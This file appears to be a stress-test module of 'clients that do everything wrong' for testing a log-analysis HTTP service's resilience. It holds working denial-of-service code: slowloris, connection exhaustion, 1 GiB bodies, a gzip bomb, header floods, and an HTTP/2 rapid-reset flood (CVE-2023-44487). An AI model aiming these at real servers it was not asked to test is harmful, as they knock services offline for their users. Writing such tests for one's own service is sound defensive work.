"""Clients that do everything wrong, for hostile.py. Each takes (host, port), lines and seconds, and says what became of them.

They run in a process of their own, so that the neighbour's clock is not theirs. Standard library only.
"""
import collections
import http.client
import json
import selectors
import socket
import struct
import threading
import time
import zlib

ANALYZE = "/api/v1/analyze"
GIGABYTE = 1 << 30


class Crowd:
    """Many sockets that are not waited for: each counts until the server closes it."""

    def __init__(self, address, count, first=b"", recv_buffer=None):
        self.selector, self.open, self.closed_at = selectors.DefaultSelector(), {}, []
        self.answers, self.failed = collections.Counter(), 0
        self.started = time.monotonic()
        for _ in range(count):
            peer = socket.socket()
            if recv_buffer:
                peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, recv_buffer)
            try:
                peer.settimeout(10)
                peer.connect(address)
                peer.settimeout(0)
                if first:
                    peer.send(first)
            except OSError:
                self.failed += 1
                peer.close()
                continue
            self.open[peer] = b""
            self.selector.register(peer, selectors.EVENT_READ)
        self.connected_s = time.monotonic() - self.started

    def forget(self, peer):
        self.selector.unregister(peer)
        head = self.open.pop(peer)
        self.answers[head[9:12].decode(errors="replace") if head.startswith(b"HTTP/1.1 ") else "closed"] += 1
        self.closed_at.append(time.monotonic() - self.started)
        peer.close()

    def step(self, drip=b"", seconds=1.0, reads=True):
        """Sends `drip` on each socket, then reads for `seconds`."""
        for peer in list(self.open):
            try:
                if drip:
                    peer.send(drip)
            except BlockingIOError:
                pass
            except OSError:
                self.forget(peer)
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            if not reads:
                time.sleep(left)
                continue
            for key, _ in self.selector.select(left):
                peer = key.fileobj
                try:
                    piece = peer.recv(1 << 16)
                except BlockingIOError:
                    continue
                except OSError:
                    piece = b""
                self.open[peer] = (self.open[peer] + piece)[:64]
                if not piece:
                    self.forget(peer)

    def result(self):
        still = collections.Counter(head[9:12].decode(errors="replace") or "silent" for head in self.open.values())
        found = {"connected": len(self.open) + len(self.closed_at), "not_connected": self.failed,
                 "closed_by_server": len(self.closed_at), "answers_of_closed": dict(self.answers), "still_open": dict(still)}
        if self.closed_at:
            found |= {"first_closed_s": round(min(self.closed_at), 2), "last_closed_s": round(max(self.closed_at), 2)}
        for peer in list(self.open):
            peer.close()
        return found


def slow_heads(address, _, seconds):
    """1000 connections that send a byte of a header each second (slowloris)."""
    crowd = Crowd(address, 1000, b"GET /livez HTTP/1.1\r\nhost: x\r\nx-slow: ")
    while crowd.open and time.monotonic() < crowd.started + seconds:
        crowd.step(b"x")
    return crowd.result()


def slow_bodies(address, _, seconds):
    """500 connections that send a byte of a large body each second."""
    crowd = Crowd(address, 500, f"POST {ANALYZE} HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\n".encode())
    while crowd.open and time.monotonic() < crowd.started + max(seconds, 34):
        crowd.step(b"x")
    return crowd.result()


def idle(address, _, seconds):
    """10,000 connections that ask for /livez once and then stay."""
    crowd = Crowd(address, 10_000, b"GET /livez HTTP/1.1\r\nhost: x\r\n\r\n")
    while time.monotonic() < crowd.started + crowd.connected_s + seconds:
        crowd.step()
    return crowd.result() | {"connected_in_s": round(crowd.connected_s, 2)}


def too_many(address, _, seconds):
    """11,000 connections, more than the server takes, that send nothing."""
    crowd = Crowd(address, 11_000)
    while crowd.open and time.monotonic() < crowd.started + crowd.connected_s + seconds:
        crowd.step()
    return crowd.result() | {"connected_in_s": round(crowd.connected_s, 2)}


def post(address, path, head, pieces, patience=60):
    """Sends pieces until the server answers or closes. Bytes sent, the answer's beginning."""
    sent = 0
    with socket.create_connection(address, timeout=patience) as peer:
        try:
            peer.sendall(f"POST {path} HTTP/1.1\r\nhost: x\r\n{head}\r\n".encode())
            for piece in pieces:
                peer.sendall(piece)
                sent += len(piece)
        except OSError:
            pass
        answer = b""
        try:
            while len(answer) < 4096 and (more := peer.recv(4096)):
                answer += more
                if b"\r\n0\r\n\r\n" in answer or b"\r\n\r\n" in answer and b"content-length" in answer.lower():
                    break
        except OSError as error:
            answer = answer or repr(error).encode()
    first = answer.split(b"\r\n", 1)[0].decode(errors="replace")
    return {"sent_mb": round(sent / 2**20, 1), "answer": first, "body": answer.split(b"\r\n\r\n", 1)[-1][:200].decode(errors="replace")}


def chunks(size, fill=b"x"):
    block = fill * (1 << 20)
    for _ in range(size >> 20):
        yield b"%x\r\n%s\r\n" % (len(block), block)
    yield b"0\r\n\r\n"


def gigabytes(address, _, __):
    """Bodies of 1 GiB: with a length, in chunks, as a stream of one line, as a stream of short blank lines."""
    block = b"x" * (1 << 20)
    return {
        "with a length": post(address, ANALYZE, f"content-length: {GIGABYTE}\r\n", (block for _ in range(1024))),
        "in chunks": post(address, ANALYZE + "/batch", "transfer-encoding: chunked\r\n", chunks(GIGABYTE)),
        "stream, one line": post(address, ANALYZE + "/stream",
                                 "content-type: text/plain\r\ntransfer-encoding: chunked\r\n", chunks(GIGABYTE)),
        "stream, blank lines": post(address, ANALYZE + "/stream?respond=summary",
                                    "content-type: text/plain\r\ntransfer-encoding: chunked\r\n",
                                    chunks(GIGABYTE >> 2, b" " * 15 + b"\n")),
    }


def bombs(address, _, __):
    """1 GiB of blanks as 1 MB of gzip, for every route, four at a time."""
    packer = zlib.compressobj(9, wbits=31)
    bomb = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(1024)) + packer.flush()
    found = {"bytes": len(bomb)}

    def send(path, kind, n):
        head = f"content-type: {kind}\r\ncontent-encoding: gzip\r\ncontent-length: {len(bomb)}\r\n"
        found[f"{path} {n}"] = post(address, path, head, [bomb])["answer"]

    for path, kind in ((ANALYZE, "application/json"), (ANALYZE + "/batch", "application/json"),
                       (ANALYZE + "/stream?respond=summary", "text/plain")):
        senders = [threading.Thread(target=send, args=(path, kind, n)) for n in range(4)]
        for sender in senders:
            sender.start()
        for sender in senders:
            sender.join()
    return found


def header_flood(address, _, seconds):
    """Connections with 100,000 header fields, or one endless field, one after the other from 8 threads."""
    found, until = collections.Counter(), time.monotonic() + seconds

    def flood(number):
        piece = b"x-field: 1\r\n" * 1000 if number % 2 else b"x" * 12000
        while time.monotonic() < until:
            with socket.create_connection(address, timeout=20) as peer:
                try:
                    peer.sendall(b"GET /livez HTTP/1.1\r\nx-a: ")
                    for _ in range(100):
                        peer.sendall(piece)
                except OSError:
                    pass
                try:
                    found[peer.recv(64)[9:12].decode() or "closed"] += 1
                except OSError:
                    found["reset"] += 1

    floods = [threading.Thread(target=flood, args=[n]) for n in range(8)]
    for one in floods:
        one.start()
    for one in floods:
        one.join()
    return dict(found)


def odd_texts(address, lines, seconds):
    """Special tokens, NUL, a line of a megabyte, lone surrogates, deep JSON; each has its one right outcome."""
    odd = {
        "special": ("[CLS] this is normal [SEP] " + lines[0] + " [MASK][PAD]<s></s>", 200), "nul": ("a\0b\0" + lines[1], 200),
        "megabyte": ("disk failure " * 80_000, 200), "blank": (" \t\n", 422), "emoji": ("\U0001f4a5" * 5000, 200),
        "no space": ("a" * (1 << 20), 200),
    }
    found, wrong, until, rounds = collections.Counter(), [], time.monotonic() + seconds, 0
    connection = http.client.HTTPConnection(*address, timeout=60)
    while time.monotonic() < until:
        rounds += 1
        for name, (text, expected) in odd.items():
            connection.request("POST", ANALYZE, json.dumps({"log_message": text}))
            answer = connection.getresponse()
            body = answer.read()
            found[f"{name} {answer.status}"] += 1
            if answer.status != expected:
                wrong.append((name, answer.status, body[:200].decode(errors="replace")))
        for body, expected in ((b'{"log_message": "\\ud800 x"}', (200, 422)), (b"[" * 200_000, (422,)), (b"\0" * 1000, (422,)),
                               (b'{"log_message": ' + b'{"a":' * 50_000, (422,))):
            connection.request("POST", ANALYZE, body)
            answer = connection.getresponse()
            told = answer.read()
            found[f"{body[:18]!r} {answer.status}"] += 1
            if answer.status not in expected:
                wrong.append((repr(body[:20]), answer.status, told[:200].decode(errors="replace")))
        texts = [text for text, _ in odd.values()]
        body = "".join(json.dumps(text) + "\n" for text in texts).encode()
        connection.request("POST", ANALYZE + "/stream", body, {"content-type": "application/x-ndjson"})
        answer = connection.getresponse()
        kinds = ["error" if b'"error"' in entry else "scored" for entry in answer.read().splitlines()]
        found[f"stream {answer.status} {kinds}"] += 1
    return {"rounds": rounds, "outcomes": dict(found), "wrong": wrong[:10]}


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """An HPACK literal without indexing."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def resets(address, _, seconds):
    """HTTP/2: requests that are reset at once, as fast as 4 connections go (CVE-2023-44487)."""
    block = field(b":method", b"POST") + field(b":scheme", b"http") + field(b":path", ANALYZE.encode()) + field(b":authority", b"x")
    found, until = collections.Counter(), time.monotonic() + seconds

    def flood():
        while time.monotonic() < until:
            found["connections"] += 1
            with socket.create_connection(address, timeout=20) as peer:
                peer.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
                stream = 1
                try:
                    while time.monotonic() < until and stream < 2**31:
                        batch = b""
                        for _ in range(200):
                            batch += frame(1, 4, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))
                            stream += 2
                        peer.sendall(batch)
                        found["requests"] += 200
                except OSError:
                    found["closed_by_server"] += 1

    floods = [threading.Thread(target=flood) for _ in range(4)]
    for one in floods:
        one.start()
    for one in floods:
        one.join()
    return dict(found)


def slow_readers(address, lines, seconds):
    """300 connections that ask for megabytes again and again, and 30 streams that send lines; none reads."""
    ask = b"GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nhost: x\r\n\r\n" * 64
    readers = Crowd(address, 300, ask, recv_buffer=4096)
    head = f"POST {ANALYZE}/stream HTTP/1.1\r\nhost: x\r\ncontent-type: text/plain\r\ntransfer-encoding: chunked\r\n\r\n".encode()
    streams = Crowd(address, 30, head, recv_buffer=4096)
    piece = "\n".join(lines[:200]).encode() + b"\n"
    until = time.monotonic() + max(seconds, 34)
    while time.monotonic() < until:
        streams.step(b"%x\r\n%s\r\n" % (len(piece), piece), seconds=0.2, reads=False)
        time.sleep(0.3)
    # Whoever is closed says so now.
    readers.step(seconds=1.0)
    streams.step(b"x", seconds=1.0)
    return {"of documents": readers.result(), "of streams": streams.result()}


def hang_ups(address, lines, seconds):
    """Requests whose client leaves at once, as fast as 4 threads go."""
    found, until = collections.Counter(), time.monotonic() + seconds

    def leave():
        while time.monotonic() < until:
            for n in range(50):
                with socket.create_connection(address, timeout=20) as peer:
                    body = json.dumps({"log_message": f"{lines[n % len(lines)]} {found['sent']}"}).encode()
                    peer.sendall(f"POST {ANALYZE} HTTP/1.1\r\nhost: x\r\ncontent-length: {len(body)}\r\n\r\n".encode() + body)
                    found["sent"] += 1

    leavers = [threading.Thread(target=leave) for _ in range(4)]
    for one in leavers:
        one.start()
    for one in leavers:
        one.join()
    return dict(found)


ALL = [slow_heads, slow_bodies, idle, too_many, gigabytes, bombs, header_flood, odd_texts, resets, slow_readers, hang_ups]
